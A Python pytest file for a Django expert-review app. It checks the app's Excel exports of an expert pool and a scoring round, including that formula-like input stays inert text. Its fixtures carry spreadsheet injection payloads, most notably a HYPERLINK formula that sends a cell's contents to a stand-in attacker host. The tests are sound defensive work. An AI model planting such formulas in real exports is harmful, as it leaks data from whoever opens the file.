"""The review exports read back with openpyxl: the expert pool (and its import template, which the
import reads back even with the title rows above the header), and the round's workbook (ranking,
every score, the opinions). Experts' and applicants' words that look like formulas stay text."""

import pytest
from django.urls import reverse

from reviews import services
from reviews.models import Expert, ReviewAssignment, Score
from reviews.resources import EXPERT_COLUMNS, ExpertResource

from .. import export_checks
from .officer_setup import scored_round

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"打开")'


@pytest.fixture
def pool(province):
    zhang = services.expert_create(
        by=province, name="张建华", employer="西北大学", phone="13812345678", specialities=HYPERLINK
    )
    li = services.expert_create(by=province, name="李秀英", employer="+1+1 研究院", phone="13912345678")
    services.expert_update(expert=li, by=province, fields={"active": False})
    return {"zhang": zhang, "li": Expert.objects.get(pk=li.pk)}


def test_the_pool_file_is_an_official_table_with_the_pages_status_words(province, client_for, pool):
    client = client_for(province)
    page = client.get(reverse("reviews:experts")).text
    table = export_checks.read_response(client.get(reverse("reviews:experts") + "?export=xlsx"))["评审专家库"]
    export_checks.assert_well_formed(table, sheet="评审专家库", title_contains="评审专家库")
    assert table.header == ["序号", *EXPERT_COLUMNS, "状态"]
    by_name = {r["姓名"]: r for r in table.rows}
    assert by_name["张建华"]["状态"] == "在库" and by_name["李秀英"]["状态"] == "已停用"
    assert "在库" in page and "已停用" in page
    # A phone number is text, never 1.38E+10.
    phones = table.cells_of("手机")
    assert [c.value for c in phones] == ["13812345678", "13912345678"]
    assert all(c.data_type == "s" for c in phones)
    # Data that looks like a formula stays text.
    specialities = next(c for c in table.cells_of("专业领域") if c.value)
    assert specialities.value == HYPERLINK and specialities.quotePrefix
    employer = next(c for c in table.cells_of("工作单位") if c.value.startswith("+"))
    assert employer.data_type == "s" and employer.quotePrefix
    export_checks.assert_fits(table, "工作单位")


def test_the_pool_file_names_its_search(province, client_for, pool):
    url = reverse("reviews:experts") + "?q=西北&export=xlsx"
    table = export_checks.read_response(client_for(province).get(url))["评审专家库"]
    assert table.column("姓名") == ["张建华"]
    assert table.scope.startswith("关键词：西北；数据截至")


def test_the_template_is_an_empty_table_and_an_export_imports_back(province, client_for, pool):
    client = client_for(province)
    template = export_checks.read_response(client.get(reverse("reviews:expert_template")))["专家库导入模板"]
    export_checks.assert_well_formed(template, sheet="专家库导入模板", title_contains="导入模板", dated=False)
    assert template.rows == [] and "必填" in template.scope

    exported = client.get(reverse("reviews:experts") + "?export=xlsx").content
    Expert.objects.all().delete()
    rows, errors = ExpertResource.rows_from(exported)
    assert errors == []
    assert [(number, fields["name"], fields["phone"]) for number, fields in rows] == [
        (4, "张建华", "13812345678"),  # rows 1–3 are the title, the scope and the header
        (5, "李秀英", "13912345678"),
    ]


def test_the_rounds_workbook_keeps_comments_and_opinions_as_text(province, client_for):
    review_round, applications, experts = scored_round()
    Score.objects.filter(assignment__expert=experts["甲"], criterion__code="a").update(comment=HYPERLINK)
    ReviewAssignment.objects.filter(expert=experts["乙"]).update(overall_opinion="@SUM(A1)")
    response = client_for(province).get(reverse("reviews:results", args=[review_round.pk]) + "?export=xlsx")
    book = export_checks.read_response(response)
    for name, table in book.items():
        export_checks.assert_well_formed(table, sheet=name, title_contains=review_round.name)
        assert review_round.batch.name in table.scope
    comments = [c for c in book["评分明细"].cells_of("评语") if c.value == HYPERLINK]
    assert len(comments) == 3 and all(c.data_type == "s" and c.quotePrefix for c in comments)
    opinions = [c for c in book["专家综合意见"].cells_of("综合意见") if c.value == "@SUM(A1)"]
    assert len(opinions) == 3 and all(c.quotePrefix for c in opinions)
    # The experts are named as on the panel.
    assert set(book["评分明细"].column("评审专家")) == {"专家甲", "专家乙", "专家丙"}
